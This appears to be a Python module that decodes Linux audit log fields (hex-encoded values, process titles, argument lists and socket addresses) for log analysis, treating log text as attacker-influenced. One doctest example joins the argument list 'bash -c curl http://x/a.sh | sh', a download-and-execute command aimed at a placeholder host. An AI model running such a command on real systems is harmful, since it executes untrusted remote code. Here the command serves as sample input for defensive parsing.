"""Decoding of single audit field values: quoting, hex, socket addresses.

Audit records are attacker-influenced text. Nothing here evaluates a value; every
function takes bytes and returns plain ``str``/``int`` data or ``None``, and none of
them raises on malformed input.
"""

from __future__ import annotations

import shlex
import socket
from dataclasses import dataclass
from functools import lru_cache

import numpy as np

__all__ = [
    "SocketAddress",
    "decode_bytes",
    "decode_encoded",
    "decode_plain",
    "decode_sockaddr",
    "decode_sockaddrs",
    "join_argv",
    "split_proctitle",
]

_HEX_DIGITS = b"0123456789ABCDEFabcdef"
_NULL_VALUES = frozenset((b"(null)", b"?", b"(none)", b""))


def decode_bytes(raw: bytes) -> str:
    """Turn raw bytes from a log into text without losing anything.

    Valid UTF-8 is decoded as is. Bytes that are not valid UTF-8 are kept as
    ``\\xNN`` escapes (Python's ``backslashreplace``), never replaced by U+FFFD.

    Examples
    --------
    >>> decode_bytes(b"/tmp/caf\\xc3\\xa9")
    '/tmp/café'
    >>> decode_bytes(b"/tmp/\\xff\\xfe")
    '/tmp/\\\\xff\\\\xfe'
    """
    try:
        return raw.decode("utf-8")
    except UnicodeDecodeError:
        return raw.decode("utf-8", "backslashreplace")


def _is_hex(raw: bytes) -> bool:
    return len(raw) % 2 == 0 and len(raw) > 0 and not raw.translate(None, _HEX_DIGITS)


def decode_encoded_bytes(raw: bytes) -> bytes | None:
    """Return the bytes an *encoded* field stands for, or ``None`` for no value.

    Quoted values are taken verbatim; unquoted values are hex when they look like
    hex (the kernel hex-encodes any value with a quote, a space, a control or a
    non-ASCII byte); ``(null)``, ``(none)`` and ``?`` mean no value.

    Examples
    --------
    >>> decode_encoded_bytes(b'"/usr/bin/id"')
    b'/usr/bin/id'
    >>> decode_encoded_bytes(b"2F746D702F6120622E7368")
    b'/tmp/a b.sh'
    >>> decode_encoded_bytes(b"(null)") is None
    True
    """
    if len(raw) >= 2 and raw[:1] == b'"':
        return raw[1:-1] if raw[-1:] == b'"' else raw[1:]
    if raw in _NULL_VALUES:
        return None
    if _is_hex(raw):
        return bytes.fromhex(raw.decode("ascii"))
    if raw[-1:] == b'"' and _is_hex(raw[:-1]):  # a stray quote after hex (seen in the wild)
        return bytes.fromhex(raw[:-1].decode("ascii"))
    return raw


@lru_cache(maxsize=65536)
def decode_encoded(raw: bytes) -> str | None:
    """Decode the value of a field the audit field dictionary marks as encoded.

    Examples
    --------
    >>> decode_encoded(b'"whoami"')
    'whoami'
    >>> decode_encoded(b"2F7573722F62696E2F6375726C202864656C6574656429")
    '/usr/bin/curl (deleted)'
    >>> decode_encoded(b"?") is None
    True
    """
    value = decode_encoded_bytes(raw)
    return None if value is None else decode_bytes(value)


@lru_cache(maxsize=4096)
def decode_plain(raw: bytes) -> str | None:
    """Decode a field that is never hex-encoded: strip quotes, map null markers.

    Examples
    --------
    >>> decode_plain(b'"root"'), decode_plain(b"pts0"), decode_plain(b"(none)")
    ('root', 'pts0', None)
    >>> decode_plain(b"00C0FFEE")
    '00C0FFEE'
    """
    if len(raw) >= 2 and raw[:1] in (b'"', b"'") and raw[-1:] == raw[:1]:
        raw = raw[1:-1]
    if raw in _NULL_VALUES:
        return None
    return decode_bytes(raw)


def split_proctitle(raw: bytes) -> list[str]:
    """Split a decoded PROCTITLE value (NUL-separated argv) into arguments.

    Examples
    --------
    >>> split_proctitle(b"bash\\x00-c\\x00echo hi")
    ['bash', '-c', 'echo hi']
    >>> split_proctitle(b"sshd: alice [priv]")
    ['sshd: alice [priv]']
    """
    parts = raw.rstrip(b"\x00").split(b"\x00")
    return [decode_bytes(p) for p in parts]


def join_argv(argv: list[str]) -> str:
    """Join arguments into one command line that splits back exactly.

    Arguments are quoted only when needed (``shlex.join``), so quotes or spaces
    inside an argument can never be mistaken for argument boundaries.

    Examples
    --------
    >>> join_argv(["bash", "-c", "curl http://x/a.sh | sh"])
    "bash -c 'curl http://x/a.sh | sh'"
    >>> join_argv(["echo", "it's"])
    'echo \\'it\\'"\\'"\\'s\\''
    """
    return shlex.join(argv)


@dataclass(frozen=True)
class SocketAddress:
    """A decoded ``struct sockaddr`` from a SOCKADDR record.

    Attributes
    ----------
    family : str
        ``inet``, ``inet6``, ``unix``, ``netlink``, ``packet`` or ``other``.
    address : str or None
        IP address text, the unix socket path (``@name`` when abstract), or the
        raw hex of an address whose family is not understood.
    port : int or None
        TCP/UDP port, or the netlink port id (``nl_pid``).
    """

    family: str
    address: str | None
    port: int | None


def _u16(data: bytes, big_endian: bool) -> int:
    return int.from_bytes(data[:2], "big" if big_endian else "little")


_V4_MAPPED = bytes(10) + b"\xff\xff"
_FAMILY_INET, _FAMILY_INET6, _FAMILY_UNIX, _FAMILY_NETLINK, _FAMILY_PACKET = 2, 10, 1, 16, 17
_KNOWN_FAMILIES = (_FAMILY_INET, _FAMILY_INET6, _FAMILY_UNIX, _FAMILY_NETLINK, _FAMILY_PACKET)


def decode_sockaddr(raw: bytes, big_endian: bool = False) -> SocketAddress:
    """Decode the hex ``saddr`` value of a SOCKADDR record.

    The address family is stored in the byte order of the machine that wrote the
    log (``big_endian`` comes from the event's ``arch``); ports and IPv4/IPv6
    addresses are in network order. Anything not understood is kept as raw hex
    with family ``other``; this function never raises.

    Examples
    --------
    >>> decode_sockaddr(b"02002BCB7F0000010000000000000000")
    SocketAddress(family='inet', address='127.0.0.1', port=11211)
    >>> decode_sockaddr(b"0A002BCB000000000000000000000000000000000000000100000000")
    SocketAddress(family='inet6', address='::1', port=11211)
    >>> decode_sockaddr(b"0100002F746D702F2E58313100")
    SocketAddress(family='unix', address='@/tmp/.X11', port=None)
    >>> decode_sockaddr(b"0002005000000000", big_endian=True)  # s390x, ppc64
    SocketAddress(family='inet', address='0.0.0.0', port=80)
    >>> decode_sockaddr(b"1000000000000000000000000")  # odd length: kept raw
    SocketAddress(family='other', address='1000000000000000000000000', port=None)
    """
    # Fast path: IPv4/IPv6 addresses repeat, ports do not; decode them apart.
    if not big_endian and len(raw) >= 16 and raw[:4] in (b"0200", b"0A00", b"0a00"):
        try:
            port = int(raw[4:8], 16)
        except ValueError:
            port = -1
        if port >= 0:
            found = _address_text(raw[:4], raw[8:16] if raw[1:2] == b"2" else raw[16:48])
            if found is not None:
                return SocketAddress(found[0], found[1], port)
    return _decode_sockaddr(raw, big_endian)


@lru_cache(maxsize=65536)
def _address_text(family: bytes, address: bytes) -> tuple[str, str] | None:
    """Text of an IPv4 (8 hex digits) or IPv6 (32 hex digits) address, or None."""
    try:
        packed = bytes.fromhex(address.decode("ascii"))
    except (ValueError, UnicodeDecodeError):
        return None
    if family == b"0200" and len(packed) == 4:
        return "inet", socket.inet_ntoa(packed)
    if family in (b"0A00", b"0a00") and len(packed) == 16:
        if packed[:12] == _V4_MAPPED:
            return "inet6", "::ffff:" + socket.inet_ntoa(packed[12:])
        return "inet6", socket.inet_ntop(socket.AF_INET6, packed)
    return None


@lru_cache(maxsize=65536)
def _decode_sockaddr(raw: bytes, big_endian: bool) -> SocketAddress:
    text = raw.strip(b'"')
    try:
        data = bytes.fromhex(text.decode("ascii"))
    except (ValueError, UnicodeDecodeError):
        return SocketAddress("other", decode_bytes(text), None)
    if len(data) < 2:
        return SocketAddress("other", text.decode("ascii") or None, None)
    family = _u16(data, big_endian)
    if family not in _KNOWN_FAMILIES:
        # A log copied from another machine may disagree with its arch field.
        swapped = _u16(data, not big_endian)
        if swapped in _KNOWN_FAMILIES:
            family, big_endian = swapped, not big_endian
    hex_text = text.decode("ascii")
    if family == _FAMILY_INET and len(data) >= 8:
        port = int.from_bytes(data[2:4], "big")
        return SocketAddress("inet", socket.inet_ntoa(data[4:8]), port)
    if family == _FAMILY_INET6 and len(data) >= 24:
        port = int.from_bytes(data[2:4], "big")
        packed = data[8:24]
        if packed[:12] == _V4_MAPPED:
            text_addr = "::ffff:" + socket.inet_ntoa(packed[12:])
        else:
            text_addr = socket.inet_ntop(socket.AF_INET6, packed)
        return SocketAddress("inet6", text_addr, port)
    if family == _FAMILY_UNIX:
        path = data[2:]
        if path[:1] == b"\x00":
            name = path[1:].rstrip(b"\x00")
            # Abstract names may hold NULs; show them as '@' like ss(8) does.
            return SocketAddress("unix", "@" + decode_bytes(name.replace(b"\x00", b"@")), None)
        path = path.split(b"\x00", 1)[0]
        return SocketAddress("unix", decode_bytes(path) if path else None, None)
    if family == _FAMILY_NETLINK and len(data) >= 8:
        port_id = int.from_bytes(data[4:8], "big" if big_endian else "little")
        return SocketAddress("netlink", None, port_id)
    if family == _FAMILY_PACKET:
        return SocketAddress("packet", hex_text, None)
    return SocketAddress("other", hex_text, None)


_HEX_VALUE = np.full(256, -1, np.int64)
for _i, _c in enumerate(b"0123456789abcdef"):
    _HEX_VALUE[_c] = _i
for _i, _c in enumerate(b"ABCDEF", start=10):
    _HEX_VALUE[_c] = _i


def decode_sockaddrs(
    raws: list[bytes], big_endian: bool = False
) -> tuple[list[str | None], list[str | None], list[int | None]]:
    """:func:`decode_sockaddr` of many values as columns (family, address, port).

    An empty value gives None in all three. IPv4 addresses are decoded in bulk.

    Examples
    --------
    >>> decode_sockaddrs([b"02002BCB7F0000010000000000000000", b"", b"0100002F746D7000"])
    (['inet', None, 'unix'], ['127.0.0.1', None, '@/tmp'], [11211, None, None])
    """
    family = np.full(len(raws), None, dtype=object)
    address = np.full(len(raws), None, dtype=object)
    port = np.full(len(raws), None, dtype=object)
    fast = np.zeros(len(raws), bool)
    if not big_endian and raws:
        # The first 16 bytes of each value (numpy truncates, and pads shorter ones
        # with NUL bytes, which are no hex digit: only values of 16 hex digits
        # or more can pass the test below).
        head = np.array(raws, dtype="S16")
        digits = _HEX_VALUE[np.frombuffer(head.tobytes(), np.uint8).reshape(-1, 16)]
        fast = (digits[:, :4] == [0, 2, 0, 0]).all(axis=1) & (digits[:, 4:] >= 0).all(axis=1)
        if fast.any():
            where = np.flatnonzero(fast)
            d = digits[where]
            family[where] = "inet"
            port[where] = (d[:, 4] * 4096 + d[:, 5] * 256 + d[:, 6] * 16 + d[:, 7]).tolist()
            address[where] = _ipv4_texts(d[:, 8:16:2] * 16 + d[:, 9:16:2])
    for i in np.flatnonzero(~fast).tolist():
        raw = raws[i]
        if raw:
            decoded = decode_sockaddr(raw, big_endian)
            family[i], address[i], port[i] = decoded.family, decoded.address, decoded.port
    return family.tolist(), address.tolist(), port.tolist()


def _ipv4_texts(octets: np.ndarray) -> np.ndarray:
    """Dotted text of IPv4 addresses given as (n, 4) octets, formatted once per distinct one.

    Ports differ from connection to connection, addresses much less.
    """
    packed = octets[:, 0] << 24 | octets[:, 1] << 16 | octets[:, 2] << 8 | octets[:, 3]
    _, first, inverse = np.unique(packed, return_index=True, return_inverse=True)
    texts = np.empty(len(first), dtype=object)
    texts[:] = [f"{a}.{b}.{c}.{e}" for a, b, c, e in octets[first].tolist()]
    return texts[inverse.reshape(-1)]  # type: ignore[no-any-return]
